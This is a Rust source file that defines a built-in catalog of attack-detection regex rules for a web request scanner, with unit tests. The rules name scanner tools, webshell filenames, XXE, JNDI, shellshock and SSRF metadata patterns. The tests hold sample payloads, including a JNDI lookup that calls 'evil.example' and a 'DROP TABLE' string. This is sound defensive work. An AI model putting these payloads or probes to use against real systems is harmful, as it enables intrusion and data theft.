//! Embedded rule catalog.
//!
//! Loadable without any rules file on disk. The catalog deliberately covers
//! ground the detection modules do not: scanner fingerprints, recon probes,
//! protocol abuse, template injection, and deserialization payloads.

use super::{Rule, RuleBuilder, RuleSource, Severity};
use crate::error::Result;

/// Build the embedded catalog.
pub fn rules() -> Result<Vec<Rule>> {
    let rules = vec![
        RuleBuilder::new("scanner-001", "Vulnerability scanner user agent", "scanner")
            .description("Known scanner tool fingerprints in any scanned value")
            .pattern(r"(?i)\b(?:sqlmap|havij|acunetix|nikto|nessus|openvas|dirbuster|gobuster|wpscan)\b")
            .score(5.0)
            .severity(Severity::High)
            .tags(&["scanner", "recon"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("scanner-002", "Generic fuzzer marker", "scanner")
            .description("Payload markers left by fuzzing tools")
            .pattern(r"(?i)\b(?:fuzz(?:er)?|0xdeadbeef)\b")
            .score(2.0)
            .severity(Severity::Low)
            .tags(&["scanner"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("recon-001", "Environment file probe", "recon")
            .description("Requests for dotfiles that leak configuration")
            .pattern(r"(?i)\.env\b|\.git/|wp-config\.php|\.htpasswd")
            .score(4.0)
            .severity(Severity::High)
            .tags(&["recon", "disclosure"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("recon-002", "Admin panel probe", "recon")
            .description("Probes for common admin interfaces")
            .pattern(r"(?i)/(?:phpmyadmin|pma|adminer|wp-admin)\b")
            .score(3.0)
            .severity(Severity::Medium)
            .tags(&["recon"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("webshell-001", "Webshell filename", "webshell")
            .description("Requests for well-known webshell filenames")
            .pattern(r"(?i)\b(?:c99|r57|b374k|wso|webshell)\.php\b")
            .score(6.0)
            .severity(Severity::Critical)
            .tags(&["webshell"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("protocol-001", "CRLF injection", "protocol")
            .description("Encoded CR/LF aimed at header splitting")
            .pattern(r"(?i)%0d%0a|%0a%0d")
            .score(4.0)
            .severity(Severity::High)
            .tags(&["protocol", "crlf"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("protocol-002", "XML external entity", "protocol")
            .description("DOCTYPE/ENTITY declarations in request payloads")
            .pattern(r"(?i)<!entity\b|<!doctype[^>]*\[")
            .score(5.0)
            .severity(Severity::High)
            .tags(&["protocol", "xxe"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("ssti-001", "Template expression", "ssti")
            .description("Server-side template injection probes")
            .pattern(r"\{\{\s*[\w'\x22 .*+\-/]+\s*\}\}|\{%[^%]*%\}")
            .score(4.0)
            .severity(Severity::High)
            .tags(&["ssti", "injection"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("ssti-002", "JNDI lookup", "ssti")
            .description("Log4j-style JNDI lookup strings")
            .pattern(r"(?i)\$\{jndi:")
            .score(8.0)
            .severity(Severity::Critical)
            .tags(&["ssti", "rce"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("deserial-001", "Serialized object payload", "deserialization")
            .description("Java/PHP serialized object markers")
            .pattern(r#"rO0AB|O:\d+:""#)
            .score(5.0)
            .severity(Severity::High)
            .tags(&["deserialization"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("shellshock-001", "Shellshock function definition", "protocol")
            .description("Bash function definition in a request value")
            .pattern(r"\(\)\s*\{\s*:;\s*\}")
            .score(7.0)
            .severity(Severity::Critical)
            .tags(&["rce", "cve-2014-6271"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("pollution-001", "Prototype pollution key", "injection")
            .description("JavaScript prototype pollution vectors")
            .pattern(r"(?i)__proto__|constructor\s*\[")
            .score(4.0)
            .severity(Severity::High)
            .tags(&["injection", "nodejs"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("ssrf-001", "Link-local metadata address", "ssrf")
            .description("Cloud metadata endpoint in a request value")
            .pattern(r"(?i)169\.254\.169\.254|metadata\.google\.internal")
            .score(6.0)
            .severity(Severity::Critical)
            .tags(&["ssrf"])
            .source(RuleSource::Builtin)
            .build()?,
        RuleBuilder::new("upload-001", "Double extension upload", "upload")
            .description("Executable masquerading behind a harmless extension")
            .pattern(r"(?i)\.(?:jpg|png|gif|pdf)\.(?:php|jsp|asp|aspx|exe)\b")
            .score(5.0)
            .severity(Severity::High)
            .tags(&["upload"])
            .source(RuleSource::Builtin)
            .build()?,
    ];

    Ok(rules)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn test_catalog_loads() {
        let rules = rules().unwrap();
        assert!(rules.len() >= 10);
        assert!(rules.iter().all(|r| r.enabled));
        assert!(rules.iter().all(|r| r.score >= 0.0));
        assert!(rules.iter().all(|r| r.source == RuleSource::Builtin));
    }

    #[test]
    fn test_catalog_ids_unique() {
        let rules = rules().unwrap();
        let ids: HashSet<&str> = rules.iter().map(|r| r.id.as_str()).collect();
        assert_eq!(ids.len(), rules.len());
    }

    #[test]
    fn test_scanner_rule_matches() {
        let rules = rules().unwrap();
        let scanner = rules.iter().find(|r| r.id == "scanner-001").unwrap();
        assert!(scanner.pattern.is_match("sqlmap/1.7.2#stable"));
        assert!(!scanner.pattern.is_match("Mozilla/5.0"));
    }

    #[test]
    fn test_jndi_rule_matches() {
        let rules = rules().unwrap();
        let jndi = rules.iter().find(|r| r.id == "ssti-002").unwrap();
        assert!(jndi.pattern.is_match("${jndi:ldap://evil.example/a}"));
    }

    #[test]
    fn test_catalog_does_not_shadow_module_scenarios() {
        // The concrete pipeline scenarios depend on exact module scores; the
        // catalog must stay silent on those payloads.
        let rules = rules().unwrap();
        for payload in [
            r#"<script>alert("xss")</script>"#,
            "1 UNION SELECT * FROM users",
            "DROP TABLE users",
            "1--",
        ] {
            for rule in &rules {
                assert!(
                    !rule.pattern.is_match(payload),
                    "rule {} unexpectedly matches {payload}",
                    rule.id
                );
            }
        }
    }
}
